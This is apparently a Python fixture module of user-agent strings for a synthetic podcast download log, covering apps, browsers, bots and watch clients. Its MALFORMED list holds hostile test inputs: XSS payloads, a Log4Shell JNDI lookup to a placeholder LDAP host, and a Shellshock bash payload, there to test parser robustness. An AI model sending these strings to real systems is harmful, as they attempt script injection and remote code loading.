"""User agents of the generated log, and who really sends them.

Written down from the agents that apps are publicly known to send (their own documentation, and the lists of the
Open Podcast Analytics Working Group): the name beside each is what a publisher calls the program, in the spelling of
the site's list. `{a}`, `{b}` and `{c}` become version numbers.
"""

APPS = {
    "Apple Podcasts": [
        "Podcasts/1650.{a} CFNetwork/1333.0.{b} Darwin/21.5.0",
        "Podcasts/4025.{a}.1 CFNetwork/1496.0.{b} Darwin/23.5.0",
        "%E6%92%AD%E5%AE%A2/1650.{a} CFNetwork/1333.0.{b} Darwin/21.5.0",
        "%D0%9F%D0%BE%D0%B4%D0%BA%D0%B0%D1%81%D1%82%D1%8B/1650.{a} CFNetwork/1333.0.{b} Darwin/21.5.0",
        "Podcast\u2019ler/1650.{a} CFNetwork/1333.0.{b} Darwin/21.5.0",
    ],
    "Spotify": [
        "Spotify/8.9.{a}.{b} Android/33 (SM-G991B)",
        "Spotify/8.9.{a} iOS/17.{b} (iPhone14,5)",
        "Spotify/1253{a}0{b}1 OSX_ARM64/OS X 14.4.1 [arm 2]",
    ],
    "Overcast": ["Overcast/3.{a} (+http://overcast.fm/; iOS podcast app)"],
    "AntennaPod": ["AntennaPod/3.{a}.{b}"],
    "Podcast Addict": [
        "PodcastAddict/v5 (+https://podcastaddict.com/; Android podcast app)",
        "PodcastAddict/v2023.{a}.{b} (+https://podcastaddict.com/; Android podcast app)",
    ],
    "Castbox": ["CastBox/8.{a}.{b} (Linux;Android 10) ExoPlayerLib/2.10.4"],
    "Castro": ["Castro 2023.{a}/1{b}"],
    "Pocket Casts": ["Pocket Casts/7.{a}.{b}", "PocketCasts/1.0 (Pocket Casts Feed App; +http://pocketcasts.com/)"],
    "Player FM": ["Player FM"],
    "gPodder": ["gPodder/3.11.{a} (http://gpodder.org/) Linux"],
    "Newsboat": ["podboat/2.{a}", "Newsboat/2.{a} (Linux x86_64)"],
    "Podverse": ["Podverse/Android Mobile App"],
    "Fountain": ["Fountain/1.{a}.{b}"],
    "iCatcher": ["iCatcher! 4.{a} (iPhone; iOS 17.{b})"],
    "Downcast": ["Downcast/2.{a}.{b}"],
    "Podbean": ["Podbean/Android App 8.{a}.{b} (http://podbean.com),8b0c"],
    "Amazon Alexa": ["AlexaMediaPlayer/2.1.4{a}{b}.0 (Linux;Android 5.1.1) ExoPlayerLib/1.5.9"],
    "Sonos": ["Linux UPnP/1.0 Sonos/70.{a}-3{b}220 (ZPS23)"],
    "VLC": ["VLC/3.0.{a} LibVLC/3.0.{a}"],
    "iTunes": ["iTunes/12.{a}.{b} (Windows; Microsoft Windows 10 x64) AppleWebKit/7613.2007"],
    "Podcast Republic": ["PodcastRepublic/18.0"],
    "Google Podcasts": [
        "Mozilla/5.0 (Linux; Android 10; CUBOT_X30 Build/QP1A) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
        "Chrome/111.0.{a}.{b} Mobile Safari/537.36 GooglePodcasts/1.0"
    ],
    "Instagram": [
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
        "Instagram 3{a}.0.0.{b} (iPhone14,5; iOS 16_6; en_US)"
    ],
    "AppleCoreMedia": [
        "AppleCoreMedia/1.0.0.20{a}F66 (iPhone; U; CPU OS 16_{b} like Mac OS X; en_us)",
        "AppleCoreMedia/1.0.0.21R3{a} (Apple Watch; U; CPU OS 10_{b} like Mac OS X; en_us)",
    ],
    "ExoPlayer": ["stagefright/1.2 (Linux;Android 9) ExoPlayerLib/2.{a}.{b}"],
    "okhttp": ["okhttp/4.{a}.{b}"],
    "FFmpeg": ["Lavf/60.{a}.100"],
    "Dalvik": ["Dalvik/2.1.0 (Linux; U; Android 11; CUBOT NOTE 20 Build/R{a}0{b})"],
    "Chrome": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/1{a}.0.0.0 Safari/537.36"
    ],
    "Safari": [
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{a} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.{b} Mobile/15E148 Safari/604.1"
    ],
    "Firefox": ["Mozilla/5.0 (X11; Linux x86_64; rv:1{a}.0) Gecko/20100101 Firefox/1{a}.0"],
    "Edge": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1{a}.0.0.0 "
        "Safari/537.36 Edg/1{a}.0.{b}.0"
    ],
}

UNKNOWN = ["MyClinicRadio/1.{a} (Android 14; Pixel 8)", "Hoerzeit/2.{a}.{b}"]

BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.{a}; +https://openai.com/gptbot)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.{a}; +http://ahrefs.com/robot/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "iTMS",
    "Overcast/1.0 Podcast Sync (123 subscribers; feed-id=456; +http://overcast.fm/)",
    "Spotify/1.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/1{a}.0.0.0 Safari/537.36",
    "python-requests/2.3{a}.0",
    "Go-http-client/2.0",
    "curl/8.{a}.0",
    "Wget/1.21.{a}",
    "axios/1.{a}.0",
    "Java/17.0.{a}",
    "Mozilla/5.0 (compatible; MyOwnPodBot/0.{a}; +https://example.org/bot)",
    "ExampleCrawler/1.{a}",
    "Mozilla/5.0 (compatible; Yandex{a}Bot/3.0; +http://yandex.com/bots)",
    "Podchaser (https://www.podchaser.com)",
]

WATCHES = [
    "atc/1.0 watchOS/10.{a} model/Watch6,2 hwp/t8301 build/21S364 (6; dt:256)",
    "atc/1.0 watchOS/7.{a} model/Watch5,9 hwp/t8006 build/18T195 (6; dt:155)",
    "(null)/(null) watchOS/8.{a} model/Watch3,4 hwp/t8004 build/19R570 (6; dt:191)",
    "Podcasts (null)/(null) watchOS/9.{a} model/Watch6,1",
]

MALFORMED = [
    "<script>alert({a})</script>",
    "Mozilla/5.0 \"><img src=x onerror=alert({a})>",
    "${jndi:ldap://198.51.100.{a}/x}",
    "() { :;}; /bin/bash -c 'ping 198.51.100.{a}'",
    "AntennaPod/3.{a}\x1b[31m",
    "Spotify/8.9\x00{a}",
    ";;;;",
]

NAMELESS = ["", " "]


def fill(template: str, random) -> str:
    """Returns the template with version numbers."""
    for mark in "abc":
        template = template.replace("{" + mark + "}", str(random.randint(10, 39)))
    return template
